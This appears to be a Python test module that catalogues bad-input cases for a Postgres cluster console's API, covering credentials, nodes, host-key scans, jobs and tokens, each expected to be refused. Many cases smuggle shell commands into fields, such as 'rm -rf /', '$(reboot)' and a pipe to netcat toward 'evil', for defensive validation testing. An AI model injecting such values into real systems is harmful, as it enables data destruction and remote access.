"""The bad-input catalogue's API half (its cluster definitions in bad_input_cluster_cases.py,
the builders in bad_input_builders.py); the pages' half and the test are in
test_bad_input.py, the wizard's in test_bad_input_wizard.py, the fixtures in conftest.py.

Each case must be refused with a 4xx and a message that says what is wrong, leave every
inventory and job table exactly as it was, ask no worker to touch a server, and leave a
"refused" row in the audit trail. Shell metacharacters are tried in every free-text field.
"""

from tests.unit.clusters.web.bad_input_builders import (
    CONTROL,
    CREDS,
    ENCRYPTED_KEY,
    FP,
    IP_ONLY,
    JOBS,
    LETTERS,
    NODES,
    PLAIN_KEY,
    PUBLIC_KEY,
    SCAN,
    TEN_MB,
    TOKENS,
    Bad,
    cred_body,
    node,
)
from tests.unit.clusters.web.bad_input_cluster_cases import CLUSTER_CASES

API_CASES = [
    # --- credentials through the API --------------------------------------------------------
    Bad("cred-name-semicolon", CREDS, cred_body(name="lab; rm -rf /"), LETTERS, "name"),
    Bad("cred-name-subshell", CREDS, cred_body(name="$(reboot)"), LETTERS, "name"),
    Bad("cred-name-backtick", CREDS, cred_body(name="`id`"), LETTERS, "name"),
    Bad("cred-name-pipe", CREDS, cred_body(name="lab|nc evil 1"), LETTERS, "name"),
    Bad("cred-name-duplicate", CREDS, cred_body(name="lab"), "exists already", "name"),
    Bad("cred-name-newline", CREDS, cred_body(name="lab\n"), CONTROL, "name"),
    Bad("cred-user-newline", CREDS, cred_body(username="root\n"), CONTROL, "username"),
    Bad("cred-user-and", CREDS, cred_body(username="root && reboot"), "Unix user", "username"),
    Bad("cred-user-redirect", CREDS, cred_body(username="root>/etc/x"), "Unix user", "username"),
    Bad(
        "cred-password-newline",
        CREDS,
        cred_body(password="pw\nreboot"),
        "Control characters",
        "password",
    ),
    Bad("cred-password-huge", CREDS, cred_body(password="p" * 2000), "At most 1024", "password"),
    Bad(
        "cred-key-with-passphrase-none-given",
        CREDS,
        cred_body(password="", private_key=ENCRYPTED_KEY),
        "encrypted key needs a passphrase",
        "private_key",
    ),
    Bad(
        "cred-key-wrong-passphrase",
        CREDS,
        cred_body(password="", private_key=ENCRYPTED_KEY, passphrase="not it"),
        "wrong passphrase",
        "private_key",
    ),
    Bad(
        "cred-key-public",
        CREDS,
        cred_body(password="", private_key=PUBLIC_KEY),
        "this is a public key",
        "private_key",
    ),
    Bad(
        "cred-key-garbage",
        CREDS,
        cred_body(password="", private_key="hello; reboot"),
        "not a private key",
        "private_key",
    ),
    Bad(
        "cred-key-non-utf8",
        CREDS,
        b'{"name": "new", "username": "root", "private_key": "-----BEGIN \xff\xfe KEY"}',
        "not UTF-8",
    ),
    Bad(
        "cred-key-lone-surrogate",
        CREDS,
        '{"name": "new", "username": "root", "private_key": "\\udcff\\udcfe"}',
        "broken Unicode escape",
    ),
    Bad(
        "cred-key-20kb",
        CREDS,
        cred_body(password="", private_key="A" * 20_000),
        "a private key is at most 16 KB",
        "private_key",
    ),
    Bad(
        "cred-key-10mb-paste",
        CREDS,
        cred_body(password="", private_key=TEN_MB),
        "the console accepts at most 1024 KB",
        status=413,
    ),
    Bad(
        "cred-key-and-password",
        CREDS,
        cred_body(private_key=PLAIN_KEY),
        "either a private key or a password",
        "non_field_errors",
    ),
    Bad(
        "cred-passphrase-without-key",
        CREDS,
        cred_body(passphrase="x"),
        "only goes with a private key",
        "passphrase",
    ),
    *CLUSTER_CASES,  # bad_input_cluster_cases.py
    # --- adding and replacing servers ------------------------------------------------------
    Bad(
        "node-add-address-subshell",
        NODES,
        {"name": "node3", "address": "$(reboot)", "credential": "CRED", "host_key_fingerprint": FP},
        "Enter the server's IP address",
        "address",
    ),
    Bad(
        "node-add-address-host-name",
        NODES,
        {
            "name": "node3",
            "address": "db3.example.com",
            "credential": "CRED",
            "host_key_fingerprint": FP,
        },
        IP_ONLY,
        "address",
    ),
    Bad(
        "node-add-name-newline",
        NODES,
        {
            "name": "node3\n",
            "address": "198.18.0.31",
            "credential": "CRED",
            "host_key_fingerprint": FP,
        },
        CONTROL,
        "name",
    ),
    Bad(
        "node-add-same-server-other-port",
        NODES,
        {
            "name": "node3",
            "address": "198.18.0.21",
            "ssh_port": 2222,
            "credential": "CRED",
            "host_key_fingerprint": FP,
        },
        "already belongs to a cluster",
        "address",
    ),
    Bad(
        "node-replace-name-in-url-injected",
        NODES + "node1;reboot/replace/",
        {"address": "198.18.0.31", "credential": "CRED", "host_key_fingerprint": FP},
        "No Node matches the given query",
        status=404,
    ),
    # --- adopting an existing Patroni cluster ----------------------------------------------
    Bad(
        "adopt-address-host-name",
        "/api/v1/clusters/adopt/",
        {
            "nodes": [
                node(0, address="db1.example.com"),
                node(1),
            ],
            "rest_api": {"username": "admin", "password": "Rest-pass-1"},
        },
        IP_ONLY,
        "nodes[0].address",
    ),
    # --- host-key scans: validated before a worker is asked ---------------------------------
    Bad(
        "scan-address-subshell",
        SCAN,
        {"address": "$(reboot)", "port": 22},
        "Enter the server's IP address",
        "address",
    ),
    Bad(
        "scan-address-space",
        SCAN,
        {"address": "a b", "port": 22},
        "Enter the server's IP",
        "address",
    ),
    Bad("scan-address-host-name", SCAN, {"address": "db1.example.com", "port": 22}, IP_ONLY),
    Bad("scan-address-newline", SCAN, {"address": "198.18.0.11\n", "port": 22}, IP_ONLY),
    Bad("scan-port-text", SCAN, {"address": "198.18.0.11", "port": "22"}, "1 to 65535", "port"),
    Bad("scan-port-0", SCAN, {"address": "198.18.0.11", "port": 0}, "1 to 65535", "port"),
    # --- jobs ------------------------------------------------------------------------------
    Bad("job-kind-injected", JOBS, {"kind": "preflight; reboot"}, "unknown job kind", "kind"),
    Bad(
        "job-node-injected",
        JOBS,
        {"kind": "rebuild", "node": "node1; reboot"},
        "has no node",
        "node",
    ),
    Bad(
        "job-service-manager-injected",
        JOBS,
        {"kind": "setup", "service_manager": "systemd; reboot"},
        "Use systemd or process",
        "service_manager",
    ),
    Bad("job-confirm-list", JOBS, {"kind": "remove_cluster", "confirm": ["pg0"]}, "cluster's name"),
    # --- issue 17: fence is the sentinel's; a person's is a guarded admin action --------------
    Bad(
        "job-fence-unconfirmed",
        JOBS,
        {"kind": "fence", "node": "node2"},
        "repeat the node's name in 'confirm'",
        "kind",
    ),
    Bad(
        "job-fence-leader-unknown",
        JOBS,
        {"kind": "fence", "node": "node2", "confirm": "node2"},
        "has not read who holds",
        "kind",
    ),
    Bad(
        "job-fence-proxy",
        JOBS,
        {"kind": "fence", "node": "proxy", "confirm": "proxy"},
        "fence needs the database node",
        "kind",
    ),
    Bad(
        "job-remove-confirm-injected",
        JOBS,
        {"kind": "remove_cluster", "confirm": "pg0; reboot"},
        "repeat the cluster's name",
    ),
    # --- issue 17: certificates are rotated on a running cluster that speaks TLS, whole -------
    Bad(
        "job-rotate-certificates-not-set-up",
        JOBS,
        {"kind": "rotate_certificates"},
        "rotating certificates needs a running cluster",
        "kind",
    ),
    # --- API tokens: an expiry is a number of days, 1 to 365 ---------------------------------
    Bad("token-days-zero", TOKENS, {"days": 0}, "from 1 to 365", "days"),
    Bad("token-days-over-a-year", TOKENS, {"days": 366}, "from 1 to 365", "days"),
    Bad("token-days-text", TOKENS, {"days": "ninety; reboot"}, "from 1 to 365", "days"),
    Bad("token-days-bool", TOKENS, {"days": True}, "from 1 to 365", "days"),
    Bad("token-days-negative", TOKENS, {"days": -5}, "from 1 to 365", "days"),
    Bad("token-never-text", TOKENS, {"never": "yes"}, "Say true or false", "never"),
    Bad("token-name-newline", TOKENS, {"name": "ci\nBcc: x"}, "printable", "name"),
    Bad("token-name-huge", TOKENS, {"name": "n" * 101}, "at most 100", "name"),
    Bad("token-name-list", TOKENS, {"name": ["ci"]}, "must be text", "name"),
    Bad("token-user-unknown", TOKENS, {"user": "nobody$(id)"}, "No user has this name", "user"),
]
